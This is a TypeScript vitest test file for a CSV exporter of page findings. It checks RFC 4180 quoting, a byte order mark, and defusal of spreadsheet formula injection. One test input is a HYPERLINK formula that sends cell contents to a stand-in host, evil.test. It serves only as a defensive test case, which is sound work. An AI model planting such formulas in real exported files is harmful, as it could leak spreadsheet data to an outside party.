import { describe, expect, it } from 'vitest';
import { CSV_BOM, CSV_COLUMNS, csvField, findingsCsv } from '../../src/core/export/csv';
import { page } from './helpers/export-findings';

/** A small RFC 4180 reader, to read back what the builder wrote. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(field), (field = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), i++;
    else field += c;
  }
  return rows;
}

describe('findingsCsv', () => {
  it('a header and one row per mention, CRLF ends, behind a byte order mark', () => {
    const csv = findingsCsv(page());
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/\n/);
    const rows = parseCsv(csv.slice(CSV_BOM.length));
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows.slice(1)).toEqual(
      page().findings.map((f) => [f.entity, f.entityName, f.text, f.sentence, page().url, page().title, page().exportedAt]),
    );
  });

  it('quotes commas, quotes and line breaks (RFC 4180), and nothing else', () => {
    expect(csvField('plain text')).toBe('plain text');
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField('he said "no"')).toBe('"he said ""no"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('two\r\nlines')).toBe('"two\r\nlines"');
    expect(csvField('وزارة أمن الدولة، بكين')).toBe('وزارة أمن الدولة، بكين');
  });

  it('defuses cells a spreadsheet would run as a formula', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(csvField(`${start}1+1`).startsWith(`'${start}`) || csvField(`${start}1+1`).startsWith(`"'${start}`)).toBe(true);
    expect(csvField('=HYPERLINK("http://evil.test/?"&A1,"x")')).toBe('"\'=HYPERLINK(""http://evil.test/?""&A1,""x"")"');
    expect(csvField('a=b')).toBe('a=b');
    const rows = parseCsv(findingsCsv(page({ title: '@SUM(1)', findings: [{ ...page().findings[0]!, sentence: '-2+3 said APT40' }] })).slice(1));
    expect(rows[1]![3]).toBe("'-2+3 said APT40");
    expect(rows[1]![5]).toBe("'@SUM(1)");
  });
});
